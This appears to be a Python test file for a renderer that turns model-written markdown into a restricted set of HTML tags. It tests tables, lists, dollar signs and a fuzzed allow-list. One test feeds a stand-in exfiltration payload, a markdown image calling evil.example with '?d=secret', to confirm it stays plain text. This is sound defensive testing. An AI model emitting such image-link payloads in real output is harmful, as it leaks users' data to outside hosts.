"""What a model wrote, on a page: it can say anything and load, link or run nothing."""

from __future__ import annotations

from html.parser import HTMLParser

from hypothesis import given
from hypothesis import strategies as st

from ui.screens.words import plain, words

ALLOWED = {"div", "p", "br", "strong", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.attributes |= set(attrs)


def tags_of(html: str) -> Tags:
    parsed = Tags()
    parsed.feed(html)
    return parsed


def test_an_image_and_a_link_stay_text() -> None:
    html = words("![x](http://evil.example/?d=secret) [click](https://evil.example) <img src=//evil.example>")
    assert tags_of(html).seen == {"div", "p"}


def test_a_table_keeps_its_figures_to_the_right() -> None:
    html = words("| Household | Dollars |\n|---|---:|\n| Alder | $41,200 |\n| Birch | −3.5 % |")
    assert '<td class="n">$41,200</td>' in html
    assert '<td class="n">−3.5 %</td>' in html
    assert '<td class="">Alder</td>' in html
    assert "---" not in html


def test_lists_and_bold_are_read() -> None:
    assert (
        words("- **one**\n- two")
        == '<div class="words"><ul><li><strong>one</strong></li><li>two</li></ul></div>'
    )


def test_dollar_signs_set_no_formula() -> None:
    assert "$5 to $7" in words("from $5 to $7")
    assert plain("$5") == "\\$5"


@given(st.text(alphabet=st.sampled_from(list("<>&\"'*|-#![]()`$ \n\tabc:/=")), max_size=200))
def test_no_text_makes_a_tag_or_an_attribute_of_its_own(text: str) -> None:
    found = tags_of(words(text))
    assert found.seen <= ALLOWED
    assert {name for name, _ in found.attributes} <= {"class", "scope"}
